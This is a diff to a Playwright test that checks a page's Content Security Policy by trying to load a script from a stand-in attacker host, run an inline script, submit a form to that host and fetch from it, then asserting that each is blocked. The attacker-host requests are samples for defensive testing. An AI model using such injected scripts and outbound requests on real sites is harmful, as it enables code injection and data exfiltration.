@@ -5,23 +5,24 @@ test('the page opens under its title, without a word of complaint in the console
   await expect(lab.page.getByRole('main')).toBeVisible()
 })
 
-test('the page’s own policy stops a script from elsewhere, an inline script and a form', async ({ lab }) => {
-  const violations = await lab.page.evaluate(async () => {
-    const seen: string[] = []
-    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))
-    const settled = (element: HTMLElement) => new Promise((resolve) => element.addEventListener('error', resolve))
-    const script = Object.assign(document.createElement('script'), { src: 'https://attacker.example/x.js' })
-    const failed = settled(script)
-    document.head.append(script, Object.assign(document.createElement('script'), { textContent: 'window.ran = true' }))
-    await failed
+test('the page’s own policy stops a script from elsewhere, an inline script, a form and a request', async ({ lab }) => {
+  const violated = new Set<string>()
+  await lab.page.exposeFunction('tell', (directive: string) => void violated.add(directive))
+  await lab.page.evaluate(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      (window as unknown as { tell(directive: string): void }).tell(effectiveDirective),
+    )
+    document.head.append(
+      Object.assign(document.createElement('script'), { src: 'https://attacker.example/x.js' }),
+      Object.assign(document.createElement('script'), { textContent: 'document.title = "ran"' }),
+    )
     const form = Object.assign(document.createElement('form'), { action: 'https://attacker.example/' })
     document.body.append(form)
     form.submit()
-    await fetch('https://attacker.example/').catch(() => undefined)
-    return { seen, ran: 'ran' in window }
+    fetch('https://attacker.example/').catch(() => undefined)
   })
-  expect(violations.ran).toBe(false)
-  expect(new Set(violations.seen)).toEqual(new Set(['script-src-elem', 'form-action', 'connect-src']))
+  await expect.poll(() => [...violated].sort()).toEqual(['connect-src', 'form-action', 'script-src-elem'])
+  expect(await lab.page.evaluate(() => document.title)).not.toBe('ran')
   lab.problems.length = 0
 })
 
